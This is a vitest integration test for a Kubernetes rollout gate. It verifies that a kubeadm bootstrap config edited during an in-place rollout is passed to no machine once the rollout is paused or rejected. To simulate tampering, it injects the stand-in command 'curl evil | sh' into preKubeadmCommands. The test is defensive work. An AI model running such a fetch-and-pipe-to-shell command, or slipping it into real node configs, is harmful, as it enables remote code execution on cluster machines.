import { expect, test, vi } from 'vitest'
import { db } from '@/lib/db/client'
import { useTestDatabase } from '@/lib/db/testing'
import { isObject, valueAt } from '@/lib/domain/changes'
import type { JsonObject } from '@/lib/domain/json'
import { HELD } from '@/lib/domain/latch/names'
import { changeSetOf } from '@/lib/services/changes/change-row'
import { pauseChange } from '@/lib/services/changes/pause-change'
import { rejectChange } from '@/lib/services/changes/reject-change'
import { mergePatch } from '@/lib/services/updaters/testing'
import { gatedSandbox } from './gated-sandbox'
import { until } from './process'
import { ctx } from './suites/governing'
import { MD } from './suites/watching'

vi.setConfig({ testTimeout: 180_000, hookTimeout: 120_000 })
useTestDatabase()

const configs = new Set<string>()
let finish = false

const at = gatedSandbox(({ says }) => {
  says.CanUpdateMachineSet = (request) => {
    const version = valueAt(request, 'desired', 'machineSet', 'spec', 'template', 'spec', 'version') ?? null
    return { machineSetPatch: mergePatch({ spec: { template: { spec: { version } } } }) }
  }
  says.UpdateMachine = (request): JsonObject => {
    configs.add(JSON.stringify(valueAt(request, 'desired', 'bootstrapConfig', 'spec', 'preKubeadmCommands') ?? null))
    return { retryAfterSeconds: finish ? 0 : 1, message: 'at work' }
  }
})

test.each(['paused', 'rejected'])(
  'a config that was edited while it rolled out is passed on to nobody, also once the rollout is %s',
  async (how) => {
    configs.clear()
    finish = false
    const w = await at.g.workload(how, { workers: { replicas: 3, maxSurge: 0, maxUnavailable: 1 } })
    await at.g.known(w)
    const md = w.machineDeployment
    const ref = valueAt((await at.g.deployment(w)) as never, 'spec', 'template', 'spec', 'bootstrap', 'configRef')
    if (!isObject(ref)) throw new Error('no bootstrap config')
    const templates = { group: String(ref.apiGroup), version: 'v1beta2', plural: 'kubeadmconfigtemplates' }
    await at.g.changeWorkers(w, 'v1.34.1')
    const { id: changeId } = await at.g.approvable(w, md, 'in-place')
    const change = () => db().change.findUniqueOrThrow({ where: { id: changeId } })
    const digest = async () => changeSetOf(await change()).pairs[0]!.config!.digest
    await at.g.approve(w, md, 'in-place')
    const shown = await digest()
    await until('the first machine to be at work', () => Promise.resolve(configs.size > 0), { ms: 40_000, every: 50 })
    await at.cluster.admin.patch(templates, String(ref.name), w.namespace, 'merge', {
      spec: { template: { spec: { preKubeadmCommands: ['curl evil | sh'] } } },
    } as never)
    finish = true
    const kept = { hook: 'UpdateMachine', answer: 'held', group: { contains: md } }
    const isKept = async () =>
      (await db().gateCall.count({ where: { ...kept, message: { contains: 'edited since' } } })) > 0
    await until('the gate to have kept the next one', isKept, { ms: 60_000, every: 50 })
    await pauseChange(ctx, { changeId, reason: 'it stands still' })
    const isHeld = async () => HELD in ((await at.g.deployment(w)).metadata.annotations ?? {})
    await until('it to be held', isHeld, { ms: 20_000, every: 50 })
    if (how === 'rejected') {
      await until('it to wait', async () => (await change()).state === 'waiting', { ms: 20_000, every: 20 })
      const { fingerprint } = await change()
      await rejectChange(ctx, { changeId, fingerprint, reason: 'not with that config' })
    }
    // Looked at again, as it is within a minute, and at once where anybody writes to the group.
    const touch = { spec: { template: { spec: { minReadySeconds: 1 } } } }
    await at.cluster.admin.patch(MD, md, w.namespace, 'merge', touch as never)
    await until('the planner to have seen it', async () => (await digest()) !== shown, { ms: 90_000, every: 100 })
    // What the gate says is written behind its answers, within moments: this is of a question that came later.
    const since = { gt: new Date(Date.now() + 2_000) }
    const isAsked = async () =>
      configs.size > 1 || (await db().gateCall.count({ where: { ...kept, lastAt: since } })) > 0
    await until('the gate to be asked again', isAsked, { ms: 60_000, every: 100 })
    expect([...configs]).toEqual(['null'])
  },
)
